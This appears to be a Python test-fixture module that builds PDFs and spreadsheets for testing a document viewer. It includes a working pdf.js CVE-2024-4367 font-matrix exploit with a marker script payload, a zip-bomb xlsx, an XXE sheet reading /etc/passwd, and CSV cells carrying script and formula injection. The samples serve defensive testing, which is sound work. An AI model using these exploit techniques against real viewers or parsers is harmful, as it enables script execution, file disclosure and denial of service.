"""Documents for the shared-document tests, built by hand (pure Python, no PDF or Excel library):
PDFs written object by object, spreadsheets zipped from their XML parts. Every function returns
the file's bytes."""

import io
import zipfile


# --- PDF ---------------------------------------------------------------------------------------

def _pdf(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF from its objects (object n is objects[n-1], without the `n 0 obj` wrapper), with a
    correct cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref))
    return out.getvalue()


def _stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(content), extra) + content + b"\nendstream"


_PAGE_COLORS = [(0.85, 0.1, 0.1), (0.1, 0.6, 0.15), (0.1, 0.25, 0.85), (0.9, 0.6, 0.0), (0.55, 0.1, 0.7)]


def multipage_pdf(pages: int = 3) -> bytes:
    """A US-Letter PDF of `pages` pages, each with "Page N of M" in big Helvetica and a colored
    rectangle (another color and place on every page, so screenshots tell pages apart)."""
    # 1 catalog, 2 pages, 3 font, then per page: page object, content stream.
    kids = b" ".join(b"%d 0 R" % (4 + 2 * i) for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]
    for i in range(pages):
        r, g, b = _PAGE_COLORS[i % len(_PAGE_COLORS)]
        y = 80 + (i * 90) % 360
        content = (
            b"%.2f %.2f %.2f rg 72 %d 468 220 re f\n" % (r, g, b, y)
            + b"0 0 0 rg BT /F1 56 Tf 72 640 Td (Page %d of %d) Tj ET\n" % (i + 1, pages)
            + b"BT /F1 14 Tf 72 600 Td (Tandem shared document test, page %d.) Tj ET\n" % (i + 1)
        )
        objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
                       b"/Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R >>" % (5 + 2 * i))
        objects.append(_stream(content))
    return _pdf(objects)


def malicious_font_pdf(marker: str) -> bytes:
    """A PDF exploiting CVE-2024-4367 (pdf.js before 4.2.67, as published by Codean Labs): a
    Type1 font dictionary whose /FontMatrix holds a string instead of a number. pdf.js copies the
    matrix unchecked into the glyph-drawing code it builds with `new Function` (font_loader.js
    `getPathGenerator`, used when glyphs are drawn as paths: here because the text is filled with
    a pattern), so the string closes the `c.transform(` call and the rest runs as script.

    The payload, if it runs, is observable three ways: it requests `/pwned-MARKER` from the
    frame's origin, sets `document.title` to `PWNED-MARKER` and posts `{pwned: MARKER}` to the
    parent window. `marker` must be [A-Za-z0-9_-]."""
    assert all(c.isalnum() or c in "-_" for c in marker), marker
    payload = (f"fetch('/pwned-{marker}').catch(function(){{}});"
               f"document.title='PWNED-{marker}';"
               f"window.parent.postMessage({{pwned:'{marker}'}},'*');")
    # Inside a PDF literal string, parentheses are escaped; the decoded string ends the
    # transform call, runs the payload and comments out the rest of the line.
    escaped = payload.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode()
    matrix = b"/FontMatrix [0.001 0 0 0.001 0 (0\\);\n" + escaped + b"\n//)]"
    content = (
        b"0 0 0 RG 72 300 468 300 re S\n"
        b"/Pattern cs /P1 scn\n"
        b"BT /F1 96 Tf 80 420 Td (ABCabc) Tj ET\n"
    )
    tile = b"0.2 0.4 0.9 rg 0 0 8 8 re f 8 8 8 8 re f 0.9 0.3 0.1 rg 8 0 8 8 re f 0 8 8 8 re f"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> /Pattern << /P1 7 0 R >> >> >>",
        _stream(content),
        # The font: widths for A..c, the smuggled matrix, and a font program that is none (filler
        # bytes of no known type): pdf.js parses it as Type1 anyway, keeps the dictionary's matrix
        # and compiles glyph paths with it. (An empty program would make pdf.js fall back to a
        # system font, and a system font is never drawn as paths.)
        b"<< /Type /Font /Subtype /Type1 /BaseFont /TandemEvil /FirstChar 65 /LastChar 99 "
        b"/Widths [600 600 600 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 600 600 600] "
        b"/Encoding /WinAnsiEncoding /FontDescriptor 6 0 R\n" + matrix + b" >>",
        b"<< /Type /FontDescriptor /FontName /TandemEvil /Flags 32 /FontBBox [0 -200 1000 900] "
        b"/ItalicAngle 0 /Ascent 900 /Descent -200 /CapHeight 700 /StemV 80 /FontFile3 8 0 R >>",
        _stream(tile, b"/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 16 16] /XStep 16 /YStep 16 "
                      b"/Resources << >> "),
        _stream(b"% not a font program " * 15),
    ]
    return _pdf(objects)


# --- Spreadsheets ------------------------------------------------------------------------------

_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
_XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_SHEET_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_MACRO_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def _content_types(sheets: int, main: str = _SHEET_MAIN, vba: bool = False) -> str:
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for i in range(1, sheets + 1))
    vba_part = ('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if vba else "")
    return (_XML + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>' + vba_part
            + f'<Override PartName="/xl/workbook.xml" ContentType="{main}"/>' + overrides
            + '<Override PartName="/xl/sharedStrings.xml" '
              'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
              '<Override PartName="/xl/styles.xml" '
              'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
              '</Types>')


_ROOT_RELS = (_XML + f'<Relationships xmlns="{_PKG_REL_NS}">'
              '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
              'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')


def _workbook(names: list[str]) -> str:
    sheets = "".join(f'<sheet name="{n}" sheetId="{i}" r:id="rId{i}"/>' for i, n in enumerate(names, 1))
    return _XML + f'<workbook xmlns="{_NS}" xmlns:r="{_REL_NS}"><sheets>{sheets}</sheets></workbook>'


def _workbook_rels(sheets: int, vba: bool = False) -> str:
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    parts = [f'<Relationship Id="rId{i}" Type="{rel}worksheet" Target="worksheets/sheet{i}.xml"/>'
             for i in range(1, sheets + 1)]
    parts.append(f'<Relationship Id="rId{sheets + 1}" Type="{rel}sharedStrings" Target="sharedStrings.xml"/>')
    parts.append(f'<Relationship Id="rId{sheets + 2}" Type="{rel}styles" Target="styles.xml"/>')
    if vba:
        parts.append(f'<Relationship Id="rId{sheets + 3}" '
                     'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>')
    return _XML + f'<Relationships xmlns="{_PKG_REL_NS}">' + "".join(parts) + "</Relationships>"


# Shared strings, by index.
_STRINGS = ["Quarterly report", "Item", "Amount", "Share", "Date", "Widgets", "Gadgets", "Gizmos",
            "Total", "Region", "North", "South", "Notes", "Merged down", "A & B <escaped>"]

# cellXfs: 0 default, 1 thousands (#,##0), 2 percent (0.00%), 3 date (numFmt 14),
# 4 bold + solid yellow fill, 5 custom #,##0.00, 6 percent without decimals (0%).
_STYLES = (_XML + f'<styleSheet xmlns="{_NS}">'
           '<numFmts count="1"><numFmt numFmtId="164" formatCode="#,##0.00"/></numFmts>'
           '<fonts count="2"><font><sz val="11"/><name val="Calibri"/></font>'
           '<font><b/><sz val="11"/><name val="Calibri"/></font></fonts>'
           '<fills count="3"><fill><patternFill patternType="none"/></fill>'
           '<fill><patternFill patternType="gray125"/></fill>'
           '<fill><patternFill patternType="solid"><fgColor rgb="FFFFFF00"/><bgColor indexed="64"/></patternFill></fill>'
           '</fills>'
           '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
           '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
           '<cellXfs count="7">'
           '<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
           '<xf numFmtId="3" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
           '<xf numFmtId="10" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
           '<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
           '<xf numFmtId="0" fontId="1" fillId="2" borderId="0" xfId="0" applyFont="1" applyFill="1"/>'
           '<xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
           '<xf numFmtId="9" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
           '</cellXfs></styleSheet>')


def _shared_strings() -> str:
    items = "".join(f"<si><t>{s.replace('&', '&amp;').replace('<', '&lt;').replace('>', '&gt;')}</t></si>"
                    for s in _STRINGS)
    return _XML + f'<sst xmlns="{_NS}" count="{len(_STRINGS)}" uniqueCount="{len(_STRINGS)}">{items}</sst>'


def _s(ref: str, index: int, style: int = 0) -> str:
    return f'<c r="{ref}" t="s"{f" s={chr(34)}{style}{chr(34)}" if style else ""}><v>{index}</v></c>'


def _n(ref: str, value, style: int = 0, formula: str | None = None) -> str:
    f = f"<f>{formula}</f>" if formula else ""
    return f'<c r="{ref}"{f" s={chr(34)}{style}{chr(34)}" if style else ""}>{f}<v>{value}</v></c>'


def _sheet(rows: list[list[str]], merges: list[str] = (), prolog: str = "") -> str:
    body = "".join(f'<row r="{i}">{"".join(cells)}</row>' for i, cells in enumerate(rows, 1) if cells)
    merge = (f'<mergeCells count="{len(merges)}">' + "".join(f'<mergeCell ref="{m}"/>' for m in merges)
             + "</mergeCells>") if merges else ""
    return (_XML + prolog + f'<worksheet xmlns="{_NS}" xmlns:r="{_REL_NS}"><sheetData>{body}</sheetData>'
            + merge + "</worksheet>")


def _summary_sheet() -> str:
    """Sheet 1: a bold, filled title merged over A1:D1; numbers with thousands, decimals and
    percent formats; dates (numFmt 14: 45292 is 2024-01-01, 45351 is 2024-02-29); a formula
    with its cached value."""
    return _sheet([
        [_s("A1", 0, 4)],
        [_s("A2", 1, 4), _s("B2", 2, 4), _s("C2", 3, 4), _s("D2", 4, 4)],
        [_s("A3", 5), _n("B3", 1234567, 1), _n("C3", 0.256, 2), _n("D3", 45292, 3)],
        [_s("A4", 6), _n("B4", 9876.5, 5), _n("C4", 0.75, 6), _n("D4", 45351, 3)],
        [_s("A5", 7), _n("B5", -42, 1), _n("C5", 0.0005, 2), _n("D5", 45657, 3)],
        [_s("A6", 8, 4), _n("B6", 1244401.5, 5, "SUM(B3:B5)"), _n("C6", 1.0065, 2, "SUM(C3:C5)")],
        [_s("A7", 14)],
    ], merges=["A1:D1"])


def _data_sheet() -> str:
    """Sheet 2: a region merged down over two rows, plain numbers, a long text column."""
    return _sheet([
        [_s("A1", 9, 4), _s("B1", 1, 4), _s("C1", 2, 4), _s("D1", 12, 4)],
        [_s("A2", 10), _s("B2", 5), _n("C2", 10), _s("D2", 13)],
        [_s("A3", 10), _s("B3", 6), _n("C3", 20.5)],
        [_s("A4", 11), _s("B4", 7), _n("C4", 3000, 1)],
    ], merges=["A2:A3", "D2:D3"])


def _zip(parts: dict[str, bytes | str]) -> bytes:
    """The parts deflated, with a fixed timestamp: the same bytes on every call."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data.encode() if isinstance(data, str) else data)
    return out.getvalue()


def _book_parts(names: list[str], sheets: list[str], main: str = _SHEET_MAIN, vba: bool = False) -> dict:
    parts = {
        "[Content_Types].xml": _content_types(len(sheets), main, vba),
        "_rels/.rels": _ROOT_RELS,
        "xl/workbook.xml": _workbook(names),
        "xl/_rels/workbook.xml.rels": _workbook_rels(len(sheets), vba),
        "xl/sharedStrings.xml": _shared_strings(),
        "xl/styles.xml": _STYLES,
    }
    for i, sheet in enumerate(sheets, 1):
        parts[f"xl/worksheets/sheet{i}.xml"] = sheet
    return parts


def xlsx_book() -> bytes:
    """Two sheets, "Summary" and "Data": merged cells (across and down), shared strings, numbers
    formatted with thousands separators, decimals and percent, dates (numFmt 14), a bold font
    on a solid fill, formulas with cached values, a string needing HTML escaping."""
    return _zip(_book_parts(["Summary", "Data"], [_summary_sheet(), _data_sheet()]))


def xlsm_book() -> bytes:
    """The same workbook as a macro-enabled one: the macro main content type and a VBA project
    part (an OLE compound-file header; never valid VBA)."""
    parts = _book_parts(["Summary", "Data"], [_summary_sheet(), _data_sheet()], main=_MACRO_MAIN, vba=True)
    parts["xl/vbaProject.bin"] = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 504
    return _zip(parts)


def zip_bomb_xlsx(inflated: int = 8 * 1024 * 1024) -> bytes:
    """A valid xlsx structure whose first sheet inflates to `inflated` bytes (a comment full of
    zeros) from a few KiB: about 1000× compression, far over a 200× ratio rule."""
    padding = "<!--" + "0" * max(0, inflated - 200) + "-->"
    bomb = _sheet([[_n("A1", 1)]], prolog=padding)
    return _zip(_book_parts(["Bomb"], [bomb]))


def xxe_xlsx() -> bytes:
    """The first sheet declares an external entity (file:///etc/passwd) and uses it in an
    inline-string cell; a parser resolving it would leak the file into the rendering."""
    doctype = ('<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
    sheet = _sheet([['<c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c>', _n("B1", 1)]], prolog=doctype)
    return _zip(_book_parts(["XXE"], [sheet]))


def csv_text() -> bytes:
    """UTF-8 CSV: a header, quoted fields with commas, doubled quotes and a line break, numbers,
    non-ASCII text, markup that must come out escaped, and a formula-looking cell."""
    return ("Name,City,Amount,Note\r\n"
            'Ada,"London, UK",1200.50,"She said ""hi"""\r\n'
            'Bjørn,Tromsø,-3,"two\nlines"\r\n'
            "Chloé,Paris,0.25,<script>alert(1)</script>\r\n"
            "Dev,Pune,=1+1,plain\r\n").encode()
